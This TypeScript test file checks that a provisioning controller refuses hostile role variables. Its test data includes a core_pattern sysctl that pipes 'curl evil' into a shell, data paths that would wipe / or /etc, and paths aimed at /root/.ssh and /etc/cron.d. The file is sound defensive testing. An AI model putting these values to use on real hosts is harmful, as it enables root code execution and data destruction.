/**
 * Issue 16, controller side: what an operator could make a role render. Each attack is replayed and
 * must be refused with a coded problem naming the var; then a property over every role and every
 * string var: whatever hostile value is given, either the render is refused or nothing it renders
 * leaves the agent's allow-lists.
 */
import { type TObject, type TSchema, Kind } from '@sinclair/typebox';
import { describe, expect, it } from 'vitest';
import { ROLES, renderRole } from '../../controller/src/roles/index.js';
import { prepareRun } from '../../controller/src/runs/plan.js';
import { FULL_MIRROR, HOST } from '../../controller/src/roles/testing.js';
import { BASE_VARS, HOSTILE_KMODS, HOSTILE_PATHS, HOSTILE_SYSCTLS, taskProblems } from './support.js';

const render = (role: string, vars: Record<string, unknown>) => renderRole(role, { host: HOST, artifacts: FULL_MIRROR, vars: { ...BASE_VARS[role], ...vars } });

/** The problems of a refused render (fails the test when it rendered). */
function refused(role: string, vars: Record<string, unknown>) {
  const r = render(role, vars);
  if (r.ok) throw new Error(`${role} rendered with ${JSON.stringify(vars).slice(0, 200)}`);
  return r.problems;
}

describe('issue 16 attacks on role vars are refused on the controller', () => {
  it('a run with an unsafe var is refused with BALLAST_ERR_UNSAFE_PATH naming the var, before anything is sent', () => {
    const session = { request: () => Promise.reject(new Error('nothing may be sent')) };
    const target = { id: 'h1', name: 'node-1', arch: 'amd64', address: '198.18.0.2', session };
    const run = (role: string, vars: Record<string, unknown>) => () =>
      prepareRun({
        runId: 'run-1',
        request: { role, hosts: ['node-1'], check: true, diff: false, vars },
        targets: { find: (name) => (name === 'node-1' ? target : null) },
        render: (r, { host, vars: v }) => renderRole(r, { host, vars: v, artifacts: FULL_MIRROR }),
        busy: new Map(),
        timeoutMs: 60_000,
      });
    expect(run('etcd-wipe', { dataDir: '/./.' })).toThrow(expect.objectContaining({ code: 'BALLAST_ERR_UNSAFE_PATH', path: '/vars/dataDir' }));
    expect(run('os-prep', { sysctls: { 'kernel.core_pattern': '|/bin/sh' } })).toThrow(expect.objectContaining({ code: 'BALLAST_ERR_UNSAFE_VALUE' }));
    expect(run('etcd-wipe', {})()).toHaveLength(1);
  });

  it('1. etcd-wipe dataDir "/./." and "/./etc" (deleting / or /etc): BALLAST_ERR_UNSAFE_PATH at /vars/dataDir', () => {
    // "/etc" already failed the var's pattern (two segments at least); the rest passed it before.
    expect(refused('etcd-wipe', { dataDir: '/etc' })).toEqual([expect.objectContaining({ path: '/vars/dataDir' })]);
    for (const dataDir of ['/./.', '/./etc', '/var/lib/etcd/../..', '/var/lib/etcd-other', '/var/lib/etcd/./.']) {
      expect(refused('etcd-wipe', { dataDir })).toEqual(
        expect.arrayContaining([expect.objectContaining({ path: '/vars/dataDir', code: 'BALLAST_ERR_UNSAFE_PATH' })]),
      );
    }
  });

  it('2. containerd binDir/runcPath/configPath pointing at /root/.ssh or /etc/cron.d: refused, naming each var', () => {
    const problems = refused('containerd', { binDir: '/root/.ssh', runcPath: '/etc/cron.d/runc', configPath: '/etc/cron.d/ballast', root: '/', cni: { binDir: '/usr/sbin' } });
    const paths = problems.filter((p) => p.code === 'BALLAST_ERR_UNSAFE_PATH').map((p) => p.path);
    expect(paths).toEqual(expect.arrayContaining(['/vars/binDir', '/vars/runcPath', '/vars/configPath', '/vars/root', '/vars/cni/binDir']));
  });

  it('2. etcd and kube-node install and data paths outside their fixed places: refused', () => {
    expect(refused('etcd', { binDir: '/tmp', dataDir: '/root', configDir: '/etc/systemd/system' }).map((p) => p.path)).toEqual(
      expect.arrayContaining(['/vars/binDir', '/vars/dataDir', '/vars/configDir']),
    );
    expect(refused('kube-node', { binDir: '/usr/sbin' })).toEqual([expect.objectContaining({ path: '/vars/binDir', code: 'BALLAST_ERR_UNSAFE_PATH' })]);
    expect(refused('etcd-member', { configDir: '/root/.ssh' })).toEqual([expect.objectContaining({ path: '/vars/configDir', code: 'BALLAST_ERR_UNSAFE_PATH' })]);
    expect(refused('etcd-restore', { dataDir: '/var/lib/etcd/../../etc' })).toEqual([expect.objectContaining({ path: '/vars/dataDir', code: 'BALLAST_ERR_UNSAFE_PATH' })]);
    expect(refused('etcd-restore', { binDir: '/tmp' })).toEqual([expect.objectContaining({ path: '/vars/binDir', code: 'BALLAST_ERR_UNSAFE_PATH' })]);
  });

  it('3. os-prep kernel.core_pattern = |/bin/sh … (root code execution on the next crash): BALLAST_ERR_UNSAFE_VALUE naming the sysctl', () => {
    const problems = refused('os-prep', { sysctls: { 'kernel.core_pattern': '|/bin/sh -c "curl evil | sh"' } });
    expect(problems).toEqual([expect.objectContaining({ path: '/vars/sysctls/kernel.core_pattern', code: 'BALLAST_ERR_UNSAFE_VALUE' })]);
    expect(refused('os-prep', { kernelModules: ['overlay', 'br_netfilter', 'evil'] })).toEqual([
      expect.objectContaining({ path: '/vars/kernelModules/2', code: 'BALLAST_ERR_UNSAFE_VALUE' }),
    ]);
  });

  it('legitimate values stay allowed: defaults, the lab’s vars and the documented alternatives', () => {
    for (const role of ROLES.keys()) {
      const r = render(role, {});
      expect(r.ok ? [] : r.problems, role).toEqual([]);
      if (r.ok) for (const t of [...r.role.tasks, ...r.role.handlers]) expect(taskProblems(t), `${role}: ${t.name}`).toEqual([]);
    }
    const ok = [
      ['containerd', { binDir: '/usr/bin', runcPath: '/usr/local/bin/runc', socket: '/run/containerd/k8s.sock' }],
      ['etcd', { dataDir: '/var/lib/etcd/member-2', binDir: '/usr/bin' }],
      ['etcd-wipe', { dataDir: '/var/lib/etcd' }],
      ['kube-node', { binDir: '/usr/local/bin' }],
      ['os-prep', { sysctls: { 'net.ipv4.ip_forward': '1', 'vm.max_map_count': '262144', 'net.ipv4.ip_local_port_range': '32768 60999' } }],
      // test/lab/roles.test.ts and test/lab/vip/setup.ts
      ['containerd', { cni: { enabled: false }, disabledPlugins: ['io.containerd.grpc.v1.cri'] }],
      [
        'vip',
        {
          health: {
            kind: 'https',
            url: 'https://127.0.0.1:2379/health',
            caFile: '/etc/etcd/pki/ca.crt',
            certFile: '/etc/etcd/pki/healthcheck-client.crt',
            keyFile: '/etc/etcd/pki/healthcheck-client.key',
          },
        },
      ],
    ] as const;
    for (const [role, vars] of ok) expect(render(role, vars).ok, `${role} ${JSON.stringify(vars)}`).toBe(true);
  });
});

/** Every string-typed var of a schema, as a path of keys (objects are walked; records and arrays are not). */
function stringVars(schema: TSchema, at: string[] = []): string[][] {
  if (schema[Kind] === 'String') return [at];
  if (schema[Kind] === 'Object') {
    return Object.entries((schema as TObject).properties).flatMap(([k, child]) => stringVars(child as TSchema, [...at, k]));
  }
  if (schema[Kind] === 'Union') return (schema as unknown as { anyOf: TSchema[] }).anyOf.some((s) => s[Kind] === 'Literal') ? [at] : [];
  return [];
}

/** `base` with `value` set at `keys` (intermediate objects created). */
function withVar(base: Record<string, unknown>, keys: string[], value: unknown): Record<string, unknown> {
  const [head, ...rest] = keys;
  if (head === undefined) return base;
  const child = (base[head] ?? {}) as Record<string, unknown>;
  return { ...base, [head]: rest.length === 0 ? value : withVar(child, rest, value) };
}

describe('property: every role, every string var, every hostile value', () => {
  it('is refused, or renders only tasks the agent’s allow-lists accept', () => {
    let refusedCount = 0;
    let tried = 0;
    for (const [name, role] of ROLES) {
      for (const keys of stringVars(role.vars)) {
        for (const value of HOSTILE_PATHS) {
          tried += 1;
          const r = renderRole(name, { host: HOST, artifacts: FULL_MIRROR, vars: withVar({ ...BASE_VARS[name] }, keys, value) });
          if (!r.ok) {
            refusedCount += 1;
            continue;
          }
          for (const t of [...r.role.tasks, ...r.role.handlers]) expect(taskProblems(t), `${name} /vars/${keys.join('/')} = ${value.slice(0, 40)}: ${t.name}`).toEqual([]);
        }
      }
    }
    // Most hostile values are refused outright; the rest never reach a path (e.g. a member name).
    expect(refusedCount).toBeGreaterThan(tried / 2);
  });

  it('hostile sysctls and kernel modules are refused with BALLAST_ERR_UNSAFE_VALUE', () => {
    for (const [k, v] of Object.entries(HOSTILE_SYSCTLS)) {
      const problems = refused('os-prep', { sysctls: { [k]: v } });
      expect(problems.some((p) => p.code === 'BALLAST_ERR_UNSAFE_VALUE' || p.path.startsWith('/vars/sysctls')), k).toBe(true);
    }
    for (const m of HOSTILE_KMODS) expect(refused('os-prep', { kernelModules: [m] }).length, m).toBeGreaterThan(0);
  });
});
